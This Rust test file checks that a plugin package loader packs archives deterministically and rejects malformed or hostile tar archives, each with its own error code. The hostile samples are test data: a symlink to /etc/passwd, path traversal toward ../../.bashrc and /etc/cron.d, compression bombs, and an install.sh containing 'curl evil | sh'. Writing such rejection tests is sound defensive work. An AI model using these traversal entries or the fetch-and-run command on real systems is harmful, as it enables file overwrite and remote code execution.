//! Packing is deterministic and content-addressed; every malformed or
//! hostile archive is rejected with its own code.

use std::io::Write;

use yoi_e2e_tests::*;
use yoi_plugin_host::package::{Package, PackageFiles};

/// One raw tar entry, written without the tar crate's own path checks.
struct Raw<'a> {
    path: &'a [u8],
    kind: tar::EntryType,
    data: Vec<u8>,
    link: Option<&'a str>,
    claimed_size: Option<u64>,
}

fn file(path: &str, data: impl Into<Vec<u8>>) -> Raw<'_> {
    Raw {
        path: path.as_bytes(),
        kind: tar::EntryType::Regular,
        data: data.into(),
        link: None,
        claimed_size: None,
    }
}

fn archive(entries: &[Raw]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut builder = tar::Builder::new(gz);
    for e in entries {
        let mut header = tar::Header::new_gnu();
        let name = &mut header.as_gnu_mut().unwrap().name;
        name[..e.path.len()].copy_from_slice(e.path);
        header.set_entry_type(e.kind);
        header.set_mode(0o644);
        header.set_size(e.claimed_size.unwrap_or(e.data.len() as u64));
        if let Some(link) = e.link {
            header.set_link_name(link).unwrap();
        }
        header.set_cksum();
        builder.append(&header, e.data.as_slice()).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

fn notes_entries() -> Vec<(String, Vec<u8>)> {
    let pkg = example_package("notes");
    pkg.files
        .iter()
        .map(|(p, c)| (p.to_owned(), c.to_vec()))
        .collect()
}

fn code_of(bytes: &[u8]) -> String {
    match Package::from_archive(bytes) {
        Ok(p) => panic!("accepted a bad archive: {}", p.digest),
        Err(e) => e.code().to_owned(),
    }
}

#[test]
fn packing_is_deterministic_and_content_addressed() {
    let a = example_package("notes");
    let b = example_package("notes");
    assert_eq!(a.to_archive(), b.to_archive(), "same files, same bytes");
    assert_eq!(a.digest, b.digest);
    assert_eq!(a.digest.as_str().len(), 64);
    assert!(
        a.digest
            .as_str()
            .bytes()
            .all(|c| c.is_ascii_digit() || (b'a'..=b'f').contains(&c))
    );

    // A copy with other mtimes packs to the same digest.
    let temp = tempfile::tempdir().unwrap();
    let copy = temp.path().join("notes");
    std::fs::create_dir(&copy).unwrap();
    std::fs::copy(
        example_dir("notes").join("plugin.toml"),
        copy.join("plugin.toml"),
    )
    .unwrap();
    std::fs::copy(plugins_dir().join("notes.wasm"), copy.join("notes.wasm")).unwrap();
    let old = std::time::SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_000_000);
    for f in ["plugin.toml", "notes.wasm"] {
        std::fs::File::options()
            .write(true)
            .open(copy.join(f))
            .unwrap()
            .set_modified(old)
            .unwrap();
    }
    assert_eq!(Package::from_dir(&copy, None).unwrap().digest, a.digest);

    // An archive with reversed entry order, owners and mtimes: same digest.
    let entries = notes_entries();
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut builder = tar::Builder::new(gz);
    for (path, content) in entries.iter().rev() {
        let mut header = tar::Header::new_ustar();
        header.set_size(content.len() as u64);
        header.set_mode(0o600);
        header.set_uid(4242);
        header.set_mtime(1_700_000_000);
        header.set_username("someone").unwrap();
        builder
            .append_data(&mut header, path, content.as_slice())
            .unwrap();
    }
    let other = builder.into_inner().unwrap().finish().unwrap();
    assert_ne!(other, a.to_archive());
    assert_eq!(Package::from_archive(&other).unwrap().digest, a.digest);

    // One changed byte changes the digest.
    std::fs::write(copy.join("README.md"), "x").unwrap();
    let with_readme = Package::from_dir(&copy, None).unwrap().digest;
    std::fs::write(copy.join("README.md"), "y").unwrap();
    let changed = Package::from_dir(&copy, None).unwrap().digest;
    assert_ne!(with_readme, changed);
    assert_ne!(with_readme, a.digest);
}

#[test]
fn the_rejection_catalogue() {
    let entries = notes_entries();
    let manifest = entries
        .iter()
        .find(|(p, _)| p == "plugin.toml")
        .unwrap()
        .1
        .clone();
    let component = entries
        .iter()
        .find(|(p, _)| p == "notes.wasm")
        .unwrap()
        .1
        .clone();
    let good = || {
        vec![
            file("plugin.toml", manifest.clone()),
            file("notes.wasm", component.clone()),
        ]
    };
    let with = |extra: Raw<'static>| {
        let mut v = good();
        v.push(extra);
        archive(&v)
    };
    assert!(
        Package::from_archive(&archive(&good())).is_ok(),
        "the baseline is valid"
    );

    let manifest_text = String::from_utf8(manifest.clone()).unwrap();
    // A component importing wasi:http's server side (outside the allowed
    // set; only outgoing-handler and types are linked, gated by grants).
    let wasi_http = wat::parse_str(
        r#"(component
            (import "wasi:http/incoming-handler@0.2.0" (instance))
            (instance $tool)
            (export "yoi:plugin/tool@1.0.0" (instance $tool)))"#,
    )
    .expect("component text");
    let hello = component_bytes("hello");
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "symlink",
            with(Raw {
                path: b"README.md",
                kind: tar::EntryType::Symlink,
                data: vec![],
                link: Some("/etc/passwd"),
                claimed_size: None,
            }),
        ),
        (
            "hardlink",
            with(Raw {
                path: b"README.md",
                kind: tar::EntryType::Link,
                data: vec![],
                link: Some("notes.wasm"),
                claimed_size: None,
            }),
        ),
        (
            "special-file",
            with(Raw {
                path: b"README.md",
                kind: tar::EntryType::Fifo,
                data: vec![],
                link: None,
                claimed_size: None,
            }),
        ),
        (
            "special-file",
            with(Raw {
                path: b"dev",
                kind: tar::EntryType::Char,
                data: vec![],
                link: None,
                claimed_size: None,
            }),
        ),
        ("absolute-path", with(file("/etc/cron.d/x", "x"))),
        ("parent-traversal", with(file("../../.bashrc", "x"))),
        ("parent-traversal", with(file("a/../../x", "x"))),
        ("empty-segment", with(file("a//b", "x"))),
        (
            "invalid-path",
            with(Raw {
                path: b"bad\xff\xfe",
                kind: tar::EntryType::Regular,
                data: b"x".to_vec(),
                link: None,
                claimed_size: None,
            }),
        ),
        ("invalid-path", with(file("a\\..\\b", "x"))),
        (
            "duplicate-path",
            with(file("notes.wasm", component.clone())),
        ),
        (
            "file-too-large",
            with(Raw {
                path: b"README.md",
                kind: tar::EntryType::Regular,
                data: vec![],
                link: None,
                claimed_size: Some(33 * 1024 * 1024),
            }),
        ),
        (
            "too-many-entries",
            archive(
                &(0..70)
                    .map(|i| Raw {
                        path: Box::leak(format!("f{i}").into_boxed_str()).as_bytes(),
                        kind: tar::EntryType::Regular,
                        data: vec![],
                        link: None,
                        claimed_size: None,
                    })
                    .collect::<Vec<_>>(),
            ),
        ),
        (
            "compression-bomb",
            with(file("README.md", vec![0u8; 30 * 1024 * 1024])),
        ),
        (
            "unexpected-entry",
            with(file("install.sh", "curl evil | sh")),
        ),
        (
            "missing-manifest",
            archive(&[file("notes.wasm", component.clone())]),
        ),
        (
            "missing-component",
            archive(&[file("plugin.toml", manifest.clone())]),
        ),
        (
            "not-a-component",
            archive(&[
                file("plugin.toml", manifest.clone()),
                file("notes.wasm", b"\0asm\x01\0\0\0".to_vec()),
            ]),
        ),
        (
            "forbidden-import",
            archive(&[
                file("plugin.toml", manifest.clone()),
                file("notes.wasm", wasi_http),
            ]),
        ),
        (
            "tool-not-exported",
            archive(&[
                file("plugin.toml", manifest.clone()),
                file("notes.wasm", hello),
            ]),
        ),
        (
            "manifest-parse",
            archive(&[
                file("plugin.toml", format!("{manifest_text}\nsurprise = 1\n")),
                file("notes.wasm", component.clone()),
            ]),
        ),
        (
            "manifest-invalid",
            archive(&[
                file(
                    "plugin.toml",
                    manifest_text.replace("schema_version = 1", "schema_version = 9"),
                ),
                file("notes.wasm", component.clone()),
            ]),
        ),
        (
            "tools-not-declared",
            archive(&[
                file("plugin.toml", manifest.clone()),
                file("notes.wasm", component_bytes("undeclared")),
            ]),
        ),
        (
            "too-large",
            archive(&[
                file("README.md", noise(30 << 20, 1)),
                file("LICENSE", noise(30 << 20, 2)),
                file("a", noise(8 << 20, 3)),
            ]),
        ),
        ("malformed-archive", b"definitely not gzip".to_vec()),
    ];
    let mut report = Vec::new();
    for (expected, bytes) in &cases {
        let code = code_of(bytes);
        assert_eq!(&code, expected);
        report.push(code);
    }
    eprintln!("rejection catalogue ({} cases): {report:?}", cases.len());
}

/// Incompressible bytes (xorshift), so only the total bound can stop them.
fn noise(len: usize, seed: u64) -> Vec<u8> {
    let mut x = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect()
}

fn component_bytes(name: &str) -> Vec<u8> {
    component(name)
}

#[test]
fn directories_with_symlinked_components_are_refused() {
    let temp = tempfile::tempdir().unwrap();
    let dir = temp.path().join("p");
    std::fs::create_dir(&dir).unwrap();
    std::fs::copy(
        example_dir("notes").join("plugin.toml"),
        dir.join("plugin.toml"),
    )
    .unwrap();
    std::os::unix::fs::symlink(plugins_dir().join("notes.wasm"), dir.join("notes.wasm")).unwrap();
    assert_eq!(Package::from_dir(&dir, None).unwrap_err().code(), "symlink");
    std::fs::remove_file(dir.join("notes.wasm")).unwrap();
    assert_eq!(
        Package::from_dir(&dir, None).unwrap_err().code(),
        "missing-component"
    );
    let mut f = std::fs::File::create(dir.join("notes.wasm")).unwrap();
    f.write_all(&component("notes")).unwrap();
    assert!(Package::from_dir(&dir, None).is_ok());
    let _ = PackageFiles::new();
}

/// The package of example `name` with its manifest text edited by `edit`,
/// validated again: the code of the rejection, or `ok`.
fn code_with_manifest(name: &str, edit: impl Fn(String) -> String) -> String {
    let original = example_package(name);
    let mut files = PackageFiles::new();
    for (path, content) in original.files.iter() {
        let content = if path == "plugin.toml" {
            let text = String::from_utf8(content.to_vec()).unwrap();
            let edited = edit(text.clone());
            assert_ne!(edited, text, "the edit must change the manifest");
            edited.into_bytes()
        } else {
            content.to_vec()
        };
        files.insert(path, content).unwrap();
    }
    match Package::from_files(files) {
        Ok(_) => "ok".to_owned(),
        Err(e) => e.code().to_owned(),
    }
}

/// The manifest's `abi` is checked against the ABI the component itself
/// exports (`yoi:plugin/tool@1.0.0` = yoi-plugin-wasm-1), not trusted.
#[test]
fn the_manifest_abi_must_match_the_component_export() {
    let to_v2 = |t: String| t.replace("abi = \"yoi-plugin-wasm-1\"", "abi = \"yoi-plugin-wasm-2\"");
    assert_eq!(code_with_manifest("hello", to_v2), "abi-mismatch");
    assert_eq!(code_with_manifest("notes", to_v2), "abi-mismatch");
    // Not even of the ABI shape: refused as a manifest error first.
    let garbage = |t: String| t.replace("abi = \"yoi-plugin-wasm-1\"", "abi = \"wasm\"");
    assert_eq!(code_with_manifest("hello", garbage), "manifest-invalid");
}

/// `permissions.host_apis` must be exactly the host APIs the component
/// imports: an unrequested import and an unused request are both refused.
#[test]
fn requested_host_apis_must_match_the_component_imports() {
    // notes imports fs and log.
    let drop_log = |t: String| t.replace("host_apis = [\"fs\", \"log\"]", "host_apis = [\"fs\"]");
    assert_eq!(
        code_with_manifest("notes", drop_log),
        "host-api-not-requested"
    );
    // hello imports neither.
    let ask_fs = |t: String| format!("{t}\n[permissions]\nhost_apis = [\"log\"]\n");
    assert_eq!(code_with_manifest("hello", ask_fs), "host-api-unused");
    // The shipped manifests match their components.
    for name in ["hello", "notes", "grep"] {
        let p = example_package(name);
        let mut requested = p.manifest.permissions.host_apis.clone();
        requested.sort();
        assert_eq!(requested, p.info.host_apis, "{name}");
    }
}
